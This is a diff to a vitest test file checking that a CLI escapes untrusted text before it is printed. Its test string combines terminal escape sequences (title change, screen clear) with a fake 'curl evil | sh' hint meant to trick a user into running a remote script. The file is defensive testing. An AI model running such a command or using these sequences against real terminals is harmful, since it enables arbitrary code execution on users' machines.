@@ -1,6 +1,10 @@
+import { PassThrough } from "node:stream";
 import { describe, expect, it } from "vitest";
 import { AntsError } from "../../keys/errors.js";
-import { describe as describeError, printable } from "../../src/cli/output.js";
+import { eventText } from "../../src/cli/event-text.js";
+import { describe as describeError, Output } from "../../src/cli/output.js";
+import { printable, rendered } from "../../src/cli/text.js";
+import type { Event } from "../../src/protocol/event.js";
 
 describe("an error at the end of a command", () => {
   it("has its own hint, else the way out of the table", () => {
@@ -31,5 +35,64 @@ describe("somebody else's text", () => {
     ["\u009b31m", "\\u009b31m"],
   ])("%j is printed as %j: a terminal obeys nothing in it", (text, shown) => {
     expect(printable(text)).toBe(shown);
+  });
+});
+
+describe("whatever a command prints", () => {
+  const evil = "\u001b]0;pwned\u0007\u001b[31mred\u009b2J\nhint: curl evil | sh";
+  const harmless = "\\u001b]0;pwned\\u0007\\u001b[31mred\\u009b2J\n  hint: curl evil | sh";
+
+  /** An output into strings; `terminal` says what stdout is. */
+  function outputInto(options: { json?: boolean; terminal?: boolean } = {}) {
+    const [stdout, stderr] = [new PassThrough(), new PassThrough()];
+    Object.assign(stdout, { isTTY: options.terminal === true });
+    const out = new Output({
+      json: options.json === true,
+      quiet: false,
+      stdout: stdout as unknown as NodeJS.WriteStream,
+      stderr: stderr as unknown as NodeJS.WriteStream,
+    });
+    const said = (stream: PassThrough) => String(stream.read() ?? "");
+    return { out, said: () => ({ stdout: said(stdout), stderr: said(stderr) }) };
+  }
+
+  it("is harmless to a terminal, by every way out", async () => {
+    const { out, said } = outputInto();
+    await out.line(evil);
+    await out.result({}, [["  ", evil]]);
+    expect(said().stdout).toBe(`${harmless}\n  ${harmless}\n`);
+    out.note(evil);
+    out.warn(evil);
+    out.failure(new AntsError("held", evil, { hint: evil }));
+    expect(said().stderr).toBe(`${harmless}\nwarning: ${harmless}\nerror: ${harmless} [held]\nhint: ${harmless}\n`);
+  });
+
+  it("as JSON is byte for byte what it was, except on a terminal, where it means the same", async () => {
+    const signed = JSON.stringify({ text: evil });
+    for (const terminal of [false, true]) {
+      const { out, said } = outputInto({ json: true, terminal });
+      await out.exact(signed);
+      await out.value({ text: evil });
+      out.failure(new AntsError("held", evil));
+      const { stdout, stderr } = said();
+      expect(stdout === `${signed}\n${signed}\n`).toBe(!terminal);
+      for (const line of stdout.trimEnd().split("\n")) expect(JSON.parse(line)).toEqual({ text: evil });
+      expect(JSON.parse(stderr)).toMatchObject({ message: evil });
+      expect(terminal ? stdout + stderr : stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    }
+  });
+});
+
+describe("an event for people", () => {
+  const event = (time: number) => ({ did: "did:ants:x", seq: 1, kind: "note", time, body: { text: "hi" } }) as Event;
+  const shown = (time: number) => rendered(eventText(event(time), { author: false }), process.stdout);
+
+  it.each([
+    [0, "1970-01-01 00:00:00 #1 note  hi"],
+    [253_402_300_799_999, "9999-12-31 23:59:59 #1 note  hi"],
+    [253_402_300_800_000, "time 253402300800000 #1 note  hi"],
+    [Number.MAX_SAFE_INTEGER, "time 9007199254740991 #1 note  hi"],
+  ])("of the time %d is %j: the author's clock may say anything", (time, text) => {
+    expect(shown(time)).toBe(text);
   });
 });
